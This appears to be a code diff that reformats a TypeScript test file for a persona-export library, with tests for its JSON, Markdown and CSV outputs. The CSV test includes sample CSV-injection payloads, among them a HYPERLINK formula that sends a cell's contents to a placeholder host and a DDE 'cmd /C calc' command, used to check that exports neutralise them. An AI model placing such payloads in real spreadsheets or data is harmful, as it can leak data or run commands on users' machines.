@@ -10,14 +10,22 @@ const table = toColumns(rows);
 const segmentIndex = rows.flatMap((_, i) => (group[i] === null ? [] : [i]));
 const segment = subset(table, segmentIndex);
 const assignments = Int32Array.from(segmentIndex, (i) => group[i]!);
-const set = await buildPersonas({ segment, whole: summariseColumns(table), clustering: { k: GROUPS.length, assignments }, domain: 'parenting' });
+const set = await buildPersonas({
+  segment,
+  whole: summariseColumns(table),
+  clustering: { k: GROUPS.length, assignments },
+  domain: 'parenting',
+});
 
 describe('exports', () => {
   it('JSON carries the whole set, evidence included', () => {
     const parsed = JSON.parse(personasToJson(set));
     expect(parsed.format).toBe('personalens/personas@1');
     expect(parsed.personas).toHaveLength(set.personas.length);
-    expect(parsed.personas[0].traits[0].evidence[0].z).toBeCloseTo(set.personas[0].traits[0].evidence[0].z, 12);
+    expect(parsed.personas[0].traits[0].evidence[0].z).toBeCloseTo(
+      set.personas[0].traits[0].evidence[0].z,
+      12,
+    );
     expect(parsed.context.locale.id).toBe('en_IN');
   });
 
@@ -29,7 +37,9 @@ describe('exports', () => {
       expect(text).toContain(`${p.rowCount} real rows`);
     }
     const evidenceRows = text.split('\n').filter((l) => /^\| (?!Trait|---)/.test(l));
-    expect(evidenceRows).toHaveLength(set.personas.reduce((n, p) => n + p.traits.reduce((m, t) => m + t.evidence.length, 0), 0));
+    expect(evidenceRows).toHaveLength(
+      set.personas.reduce((n, p) => n + p.traits.reduce((m, t) => m + t.evidence.length, 0), 0),
+    );
   });
 
   it('Markdown says how sure each persona is, and when the structure is weak or absent', async () => {
@@ -38,15 +48,27 @@ describe('exports', () => {
       daviesBouldin: 0,
       calinskiHarabasz: 0,
       sizes: GROUPS.map((_, c) => assignments.filter((a) => a === c).length),
-      stability: GROUPS.map((_, c) => ({ jaccard: c === 0 ? 0.45 : 0.6, recovered: c === 0 ? 7 : 12, resamples: 20 })),
+      stability: GROUPS.map((_, c) => ({
+        jaccard: c === 0 ? 0.45 : 0.6,
+        recovered: c === 0 ? 7 : 12,
+        resamples: 20,
+      })),
     };
-    const shaky = await buildPersonas({ segment, whole: summariseColumns(table), clustering: { k: GROUPS.length, assignments, quality, verdict: 'groups', pinned: false }, domain: 'parenting' });
+    const shaky = await buildPersonas({
+      segment,
+      whole: summariseColumns(table),
+      clustering: { k: GROUPS.length, assignments, quality, verdict: 'groups', pinned: false },
+      domain: 'parenting',
+    });
     const text = personasToMarkdown(shaky);
     expect(text).toContain('Weak structure: silhouette 0.12, resampling stability');
     const first = shaky.personas.find((p) => p.clusterIndex === 0)!;
     expect(text).toContain('Stability: dissolved: comes back in 7 of 20 resamples (mean Jaccard 0.45)');
     expect(first.stability).toEqual({ jaccard: 0.45, recovered: 7, resamples: 20 });
-    const crowd = personasToMarkdown({ ...shaky, structure: { ...shaky.structure!, verdict: 'one group', weak: false } });
+    const crowd = personasToMarkdown({
+      ...shaky,
+      structure: { ...shaky.structure!, verdict: 'one group', weak: false },
+    });
     expect(crowd).toContain('these personas split one crowd');
   });
 
@@ -66,7 +88,14 @@ describe('exports', () => {
   });
 
   it('CSV neutralises formula-leading cells (OWASP CSV injection) and leaves numbers as numbers', () => {
-    const hostile = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1'];
+    const hostile = [
+      '=HYPERLINK("http://x/?"&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '-2+3',
+      '\t=1+1',
+      '\r=1+1',
+    ];
     const columns = ['id', 'note', '=header'];
     const data = segmentIndex.map((i, n) => [i + 1, hostile[n % hostile.length], n % 2 ? -2.5 : '-2.5']);
     const clusterOf = new Map(Array.from(segment.rowIds, (id, i) => [id, assignments[i]]));
